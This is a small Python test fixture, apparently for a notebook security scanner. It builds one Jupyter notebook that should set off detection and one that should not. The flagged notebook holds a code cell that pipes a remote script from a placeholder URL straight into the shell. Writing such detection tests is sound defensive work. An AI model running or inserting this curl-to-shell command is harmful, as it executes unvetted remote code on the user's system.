"""https://nbformat.readthedocs.io/en/latest/format_description.html"""

from __future__ import annotations

import json


def fires() -> bytes:
    return json.dumps(
        {
            "nbformat": 4,
            "nbformat_minor": 5,
            "metadata": {},
            "cells": [{"cell_type": "code", "source": ["!curl -s https://example.org/x.sh | sh"]}],
        }
    ).encode()


def quiet() -> bytes:
    return json.dumps(
        {
            "nbformat": 4,
            "nbformat_minor": 5,
            "metadata": {},
            "cells": [{"cell_type": "code", "source": ["!pip install torch\n", "!nvidia-smi"]}],
        }
    ).encode()
